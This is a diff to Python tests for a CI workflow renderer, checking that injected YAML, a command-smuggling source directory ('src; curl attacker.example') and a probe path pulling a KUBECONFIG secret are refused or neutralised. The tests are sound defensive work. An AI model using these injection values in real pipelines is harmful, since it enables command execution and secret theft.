@@ -349,7 +349,7 @@ def test_a_newline_in_the_epic_id_adds_no_yaml(tmp_path: Path) -> None:
 
 def test_a_hostile_epic_id_in_facts_is_not_pasted_into_the_header(tmp_path: Path) -> None:
     decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
-    facts.epic = "EP-1\ndefaults:\n  run:\n    shell: evil {0}\r\u2028x"
+    facts = facts._replace(epic="EP-1\ndefaults:\n  run:\n    shell: evil {0}\r\u2028x")
     text = workflow.render(facts, decision.deployment)
     header = text.split("name:", 1)[0]
     assert header.count("\n") == 2 and "(unnamed)" in header and "evil" not in text
@@ -375,7 +375,7 @@ def test_hostile_file_paths_never_reach_the_test_job(tmp_path: Path, path: str) 
 
 def test_an_unsafe_source_dir_is_refused_not_quoted_away(tmp_path: Path) -> None:
     decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
-    facts.source_dir = "src; curl attacker.example"
+    facts = facts._replace(source_dir="src; curl attacker.example")
     with pytest.raises(ValueError, match="not a plain relative path"):
         workflow.render(facts, decision.deployment)
 
@@ -386,7 +386,7 @@ def test_a_hostile_probe_path_or_name_is_refused(tmp_path: Path) -> None:
     hostile["health_checks"]["readiness"]["endpoint"] = "/h${{ secrets.KUBECONFIG }}"
     with pytest.raises(ValueError, match="probe path"):
         workflow.render(facts, hostile)
-    facts.app = "api\njobs: {}"
+    facts = facts._replace(app="api\njobs: {}")
     text = workflow.render(facts, decision.deployment)
     assert set(jobs_of(text)) == set(jobs_of(decision.cicd)) and jobs_of(text)["deploy-dev"]["env"]["APP"] == "api-jobs"
 
